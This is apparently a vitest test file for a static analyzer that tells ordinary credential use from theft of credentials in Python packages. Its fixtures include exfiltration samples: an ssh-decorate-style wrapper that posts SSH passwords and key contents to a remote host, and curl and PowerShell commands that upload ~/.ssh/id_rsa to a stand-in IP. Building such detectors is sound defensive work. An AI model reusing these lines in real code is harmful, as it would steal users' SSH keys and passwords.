import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

describe("credentials used for their own service are not sent away", () => {
  it("an SSH key or password handed to paramiko is authentication, not a sink", async () => {
    const facts = await analyze({
      "pkg/conn.py": `
        import os, paramiko
        def run(host, password=None):
            key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))
            c = paramiko.SSHClient()
            c.connect(host, username="me", pkey=key, password=password, key_filename=os.path.expanduser("~/.ssh/id_ed25519"))
            return c.exec_command("uptime")
      `,
    });
    expect(facts.flows).toEqual([]);
    expect(facts.sources.map((s) => s.kind)).toContain("ssh-key");
  });

  it("an SSH wrapper that also posts its secret parameters is the ssh-decorate case", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import paramiko, requests
        class Conn(object):
            def __init__(self, host, user, password=None, private_key=None):
                self.c = paramiko.SSHClient()
                self.c.connect(host, username=user, password=password, key_filename=private_key)
                self._log({"h": host, "p": password, "k": open(private_key).read()})
            def _log(self, data):
                requests.post("http://ssh-decorate.cf/index.php", data=data)
      `,
    });
    expect(flowsOf(facts)).toEqual([
      "password-prompt@pkg/__init__.py:3 -> http@pkg/__init__.py:8 http://ssh-decorate.cf/index.php [call]",
      "ssh-key@pkg/__init__.py:3 -> http@pkg/__init__.py:8 http://ssh-decorate.cf/index.php [call]",
    ]);
  });

  it("secret-named parameters that never reach an SSH client are not sources", async () => {
    const facts = await analyze({ "pkg/api.py": `import requests\ndef login(user, password):\n    return requests.post("https://api.example.com/login", data={"u": user, "p": password})\n` });
    expect(facts.flows).toEqual([]);
    expect(facts.sources).toEqual([]);
  });

  it("a .netrc entry looked up for a host and sent to that host is own-service", async () => {
    const facts = await analyze({
      "pkg/auth.py": `
        import netrc, requests
        from urllib.parse import urlparse
        def get(url):
            host = urlparse(url).hostname
            entry = netrc.netrc().authenticators(host)
            return requests.get(url, auth=(entry[0], entry[2]))
      `,
    });
    expect(flowsOf(facts)).toEqual(["netrc@pkg/auth.py:5 -> http@pkg/auth.py:6 ? own [call]"]);
  });

  it(".pypirc credentials sent to the repository URL read from the same file are own-service", async () => {
    const facts = await analyze({
      "pkg/upload.py": `
        import configparser, os, requests
        def upload(dist):
            cfg = configparser.RawConfigParser()
            cfg.read(os.path.join(os.path.expanduser("~"), ".pypirc"))
            url = cfg.get("pypi", "repository")
            requests.post(url, data=dist, auth=(cfg.get("pypi", "username"), cfg.get("pypi", "password")))
      `,
    });
    expect(flowsOf(facts)).toEqual(["registry-token@pkg/upload.py:4 -> http@pkg/upload.py:6 ? own [call]"]);
  });

  it("ssh/scp identity files in a command line are authentication; curl uploading a key is a sink", async () => {
    const facts = await analyze({
      "pkg/run.py": `
        import os, subprocess
        def deploy(host):
            key = os.path.expanduser("~/.ssh/id_rsa")
            subprocess.run(["ssh", "-i", key, host, "uptime"])
            subprocess.run(["scp", "-i", key, "build.tgz", host + ":/tmp/"])
        def leak():
            os.system("curl -s -F k=@" + os.path.expanduser("~/.ssh/id_rsa") + " https://203.0.113.5/u")
      `,
    });
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/run.py:7 -> http@pkg/run.py:7 https://203.0.113.5/u [call]"]);
  });

  it("PowerShell -Command / pwsh -c: Invoke-RestMethod -InFile uploads the file; -OutFile downloads to it", async () => {
    const facts = await analyze({
      "pkg/run.py": `
        import os, subprocess
        def icon(path):
            subprocess.run(["pwsh", "-c", "iwr -Uri https://203.0.113.5/icon.png -OutFile " + path])
        def leak():
            key = os.path.expanduser("~/.ssh/id_rsa")
            subprocess.run("powershell.exe -NoProfile -com \\"irm https://203.0.113.5/u -Method Post -InFile '" + key + "'\\"")
      `,
    });
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/run.py:6 -> http@pkg/run.py:6 https://203.0.113.5/u [call]"]);
  });

  it("a secret attribute of a library base class is a source only when the package never sets it", async () => {
    const facts = await analyze({
      "pkg/ex.py": `
        import requests, ccxt
        class Own(ccxt.binance):
            def __init__(self):
                self.secret = "public-demo"
            def ping(self):
                requests.post("https://203.0.113.5/p", json={"s": self.secret})
        class Held(ccxt.kraken):
            def ping(self):
                requests.post("https://203.0.113.5/p", json={"s": self.secret})
      `,
    });
    expect(flowsOf(facts)).toEqual(["password-prompt@pkg/ex.py:9 -> http@pkg/ex.py:9 https://203.0.113.5/p [call]"]);
  });

  it("http.client putheader: Authorization is the request's credential, another header is data", async () => {
    const upload = (header: string) => `
      import http.client, base64
      class Upload(setuptools.Command):
          def run(self):
              conn = http.client.HTTPSConnection(self.repository)
              conn.putrequest("POST", "/docs")
              conn.putheader("${header}", "Basic " + base64.b64encode((self.username + ":" + self.password).encode()).decode())
              conn.endheaders()
    `;
    const uses = async (header: string) => (await analyze({ "pkg/up.py": `import setuptools\n${upload(header)}` })).flows.map((f) => f.use);
    expect(await uses("Authorization")).toEqual(["auth"]);
    expect(await uses("X-Data")).toEqual(["payload"]);
  });

  it("a keyring CLI printing a password has a source and no sink", async () => {
    const facts = await analyze({ "kr/__main__.py": `import keyring, sys\nprint(keyring.get_password(sys.argv[1], sys.argv[2]))\n` });
    expect(facts.sources.map((s) => s.kind)).toEqual(["keychain"]);
    expect(facts.sinks).toEqual([]);
  });

  it("Unix sockets are local IPC, not a sink", async () => {
    const facts = await analyze({ "pkg/ipc.py": `import socket, os\ns = socket.socket(socket.AF_UNIX)\ns.connect("/tmp/agent.sock")\ns.send(os.environ["API_TOKEN"].encode())\n` });
    expect(facts.sinks).toEqual([]);
    expect(facts.flows).toEqual([]);
  });
});
